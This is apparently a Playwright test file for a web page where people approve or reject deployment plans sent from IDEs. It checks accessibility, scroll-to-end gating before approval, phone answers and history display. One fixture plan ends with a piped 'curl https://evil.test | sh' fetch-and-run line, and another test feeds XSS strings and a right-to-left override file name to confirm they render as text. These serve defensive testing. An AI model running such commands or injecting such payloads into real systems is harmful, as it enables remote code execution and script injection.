import type { Page } from "playwright-core";
import { expect, it } from "vitest";
import { contentSha256 } from "../../src/contract/content-sha256.ts";
import { axe } from "../browser.ts";
import { type OpenChoice, settingsPages } from "./settings-page.ts";

const pages = settingsPages();

/** Of what the fake asks, unless a test says otherwise. */
const SHOWN = contentSha256({
  project_name: "shop",
  plan: "1. Migrate the database\n2. Restart the servers",
  affected_files: ["deploy/production.yaml", "db/0042_orders.sql"],
});

const asked = (page: Page, name: string): Promise<readonly unknown[]> =>
  page.evaluate((wanted) => window.fakePage.calls.filter((call) => call.name === wanted).map(({ input }) => input), name);

async function open(fake: OpenChoice["fake"] = {}, context: OpenChoice["context"] = {}): Promise<Page> {
  const { page } = await pages.open({ fake: { devices: [{ device_id: "iphone" }], ...fake }, context });
  await page.getByRole("heading", { name: "John's iPhone" }).waitFor();
  return page;
}

it("takes no room where nobody waits, and comes before everything else as soon as an IDE asks", async () => {
  const page = await open();
  expect(await page.getByRole("heading", { name: "Waiting for your answer" }).count()).toBe(0);
  await page.evaluate(() =>
    window.fakePage.ask({
      project_name: "shop",
      requested_by: "Grace",
      plan: "terraform apply",
      deliveries: [{ device_id: "iphone", user_id: "john", state: "delivered", at: "2026-11-24T10:02:00Z" }],
    }),
  );
  await page.getByRole("heading", { name: "Waiting for your answer" }).waitFor();
  expect(await page.getByRole("main").locator("section.card:not(.bare)").first().getByRole("heading", { level: 3 }).innerText()).toBe(
    "shop",
  );
  expect(await page.locator(".plan pre").innerText()).toBe("terraform apply");
  await page.getByText("requested by Grace").waitFor();
  await page.getByText("Delivered to John's iPhone at 11:02").waitFor();
  await page.getByText("2 files").click();
  await page.getByText("db/0042_orders.sql").waitFor();
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    expect(await axe(page)).toEqual([]);
  }
});

it("is approved by the keyboard, after a second look, and the focus stays near", async () => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop" }] });
  await page.getByRole("button", { name: "Approve: shop" }).focus();
  await page.keyboard.press("Enter");
  const dialog = page.getByRole("alertdialog", { name: "Approve shop?" });
  await dialog.waitFor();
  expect(await asked(page, "decideAtComputer")).toEqual([]);
  expect(await axe(page)).toEqual([]);
  await dialog.getByRole("button", { name: "Approve", disabled: false }).focus();
  await page.keyboard.press("Enter");
  await page.getByText("shop was approved.").waitFor();
  expect(await asked(page, "decideAtComputer")).toEqual([{ approval_id: "a-1", decision: "approve", content_sha256: SHOWN }]);
  await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe("approvals-heading");
});

it("cannot be approved before the end of a long plan and of the files was in view, also by the keyboard", async () => {
  const plan = `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`;
  const affected_files = Array.from({ length: 24 }, (_, file) => `src/${file % 12}.ts`);
  const page = await open(
    { approvals: [{ approval_id: "a-1", project_name: "shop", plan, affected_files }] },
    // A window of 1280 x 1024 at 400 %.
    { viewport: { width: 320, height: 256 } },
  );
  await page.getByRole("button", { name: "Approve: shop" }).click();
  const dialog = page.getByRole("alertdialog", { name: "Approve shop?" });
  const approve = dialog.getByRole("button", { name: "Approve" });
  await dialog.getByText("Read to the end of the plan and the files to approve.").waitFor();
  expect(await axe(page)).toEqual([]);
  await approve.click({ force: true });
  await dialog.getByRole("button", { name: "Show all 41 lines" }).focus();
  await page.keyboard.press("Enter");
  await dialog.getByText("End of the plan", { exact: true }).waitFor();
  expect(await approve.getAttribute("aria-disabled")).toBe("true");
  await expect
    .poll(
      async () => {
        for (let times = 0; times < 4; times += 1) await page.keyboard.press("PageDown");
        return approve.getAttribute("aria-disabled");
      },
      { timeout: 30_000 },
    )
    .toBe(null);
  expect(await axe(page)).toEqual([]);
  expect(await asked(page, "decideAtComputer")).toEqual([]);
  await approve.focus();
  await page.keyboard.press("Enter");
  await page.getByText("shop was approved.").waitFor();
  expect(await asked(page, "decideAtComputer")).toEqual([
    { approval_id: "a-1", decision: "approve", content_sha256: contentSha256({ project_name: "shop", plan, affected_files }) },
  ]);
});

it("shows the number of a high risk, for the phone, and needs none here", async () => {
  const page = await open({
    approvals: [{ approval_id: "a-1", project_name: "shop", risk: "high", numbers: ["08", "47", "93"], match_number: "47" }],
  });
  await page.getByText("High risk. To approve it on a phone, choose the number 47.").waitFor();
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    expect(await axe(page)).toEqual([]);
  }
  await page.getByRole("button", { name: "Approve: shop" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Approve", disabled: false }).click();
  await page.getByText("shop was approved.").waitFor();
  expect(await asked(page, "decideAtComputer")).toEqual([{ approval_id: "a-1", decision: "approve", content_sha256: SHOWN }]);
});

it("can be rejected unread", async () => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop", plan: "x".repeat(5000) }] });
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
  await page.getByText("shop was rejected.").waitFor();
});

it("is rejected with a comment, and Escape does nothing", async () => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop" }] });
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByRole("alertdialog").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("alertdialog").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByLabel("Comment (optional)").fill(" not on a Friday ");
  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
  await page.getByText("shop was rejected.").waitFor();
  expect(await asked(page, "decideAtComputer")).toEqual([
    { approval_id: "a-1", decision: "reject", comment: "not on a Friday", content_sha256: SHOWN },
  ]);
});

it("goes when a phone answers, also under an open question, and says who was first", async () => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop" }] });
  await page.getByRole("button", { name: "Approve: shop" }).click();
  const answered = {
    status: "rejected",
    decided_by: "iphone",
    decided_by_name: "John's iPhone",
    decided_at: "2026-11-24T10:02:00Z",
  } as const;
  await page.evaluate((set) => {
    // Its news is late: the answer at the computer crosses that on the phone.
    window.fakePage.hold("listApprovals");
    window.fakePage.setApproval("a-1", set);
  }, answered);
  await page.getByRole("alertdialog").getByRole("button", { name: "Approve" }).click();
  await page.getByText("This was already rejected on John's iPhone.").waitFor();
  await page.evaluate(() => window.fakePage.release("listApprovals"));
  await page.getByRole("heading", { name: "Waiting for your answer" }).waitFor({ state: "detached" });
  await page.getByText("This was already rejected on John's iPhone.").waitFor();

  await page.evaluate(() => window.fakePage.ask({ approval_id: "a-2", project_name: "api" }));
  await page.getByRole("button", { name: "Approve: api" }).click();
  await page.evaluate((set) => window.fakePage.setApproval("a-2", set), answered);
  await page.getByRole("alertdialog").waitFor({ state: "detached" });
});

// A phone that was paired before some ids were reserved may have any.
it.each(["pixel", "desk"])("that is answered on the phone %j stays in sight with its answer until it is dismissed", async (decided_by) => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop" }] });
  await page.getByRole("button", { name: "Approve: shop" }).waitFor();
  await page.evaluate(
    (by) =>
      window.fakePage.setApproval("a-1", {
        status: "approved",
        decided_by: by,
        decided_by_name: "Pixel 7",
        decided_at: "2026-11-24T10:02:00Z",
      }),
    decided_by,
  );
  await page.getByText(/^shop: Approved on Pixel 7, 11:02/).waitFor();
  await page.getByRole("button", { name: /^Dismiss/ }).click();
  await page.getByText(/Approved on Pixel 7/).waitFor({ state: "detached" });
});

it("shows hostile words as the words they are", async () => {
  const plan = "<img src=x onerror=alert(1)>\n\u202egnp.exe";
  const page = await open({ approvals: [{ project_name: "<b>shop</b>", plan, affected_files: ["<script>"], estimated_duration: 40 }] });
  expect(await page.locator(".plan pre").textContent()).toBe(plan);
  expect(await page.locator("main img, main b, main script").count()).toBe(0);
});

it("keeps what was sent, and how it fared with each phone, and fits into 320 pixels", async () => {
  const page = await open(
    {
      approvals: [
        {
          approval_id: "a-1",
          project_name: "shop",
          deliveries: [
            {
              device_id: "iphone",
              user_id: "john",
              state: "waiting",
              sms: { state: "failed", at: "2026-11-24T10:00:00Z", more: false, problem: "This number has opted out." },
            },
          ],
          status: "approved",
          decided_by: "iphone",
          decided_by_name: "John's iPhone",
          decided_at: "2026-11-24T10:02:00Z",
          comment: "go",
        },
        {
          approval_id: "a-2",
          project_name: "a-very-long-project-name-without-a-single-space-in-it-at-all-whatsoever",
          plan: "x".repeat(500),
        },
      ],
      notifications: [
        {
          notification_id: "n-1",
          sent_at: "2026-11-24T10:00:00Z",
          payload: {
            notification_id: "n-1",
            build_id: "b-9",
            project_name: "api",
            status: "failure",
            message: "3 tests failed",
            priority: "high",
            action_required: false,
          },
          deliveries: [
            { device_id: "iphone", user_id: "john", state: "read", at: "2026-11-24T10:01:00Z" },
            { device_id: "gone", user_id: "john", state: "gone" },
          ],
        },
      ],
    },
    { viewport: { width: 320, height: 800 } },
  );
  await page.getByRole("heading", { name: "Approvals and notifications" }).click();
  const history = page.getByRole("list", { name: "Approvals and notifications" });
  await history.getByText("on John's iPhone, ").waitFor();
  await history.getByText("Read on John's iPhone at 11:01").waitFor();
  await history.getByText("Wasn't delivered to gone").waitFor();
  await history.getByText("Not delivered to John's iPhone yet").waitFor();
  await history.getByText("Text message to John's iPhone wasn't sent. This number has opted out.").waitFor();
  await history.getByText("Build failed").waitFor();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await axe(page)).toEqual([]);
});

it("says why there are no buttons where phones alone answer, and has them again when that is changed", async () => {
  const page = await open({ approvals: [{ approval_id: "a-1", project_name: "shop" }], overview: { answers_at_computer: "never" } });
  await page.getByText("Answer on a phone. Answers at this computer are turned off in the settings.").waitFor();
  expect(await page.getByRole("button", { name: /: shop$/ }).count()).toBe(0);
  expect(await axe(page)).toEqual([]);
  await page.evaluate(() => {
    window.fakePage.setOverview({ answers_at_computer: "window" });
    window.fakePage.emit("invites");
  });
  await page.getByRole("button", { name: "Approve: shop" }).waitFor();
});
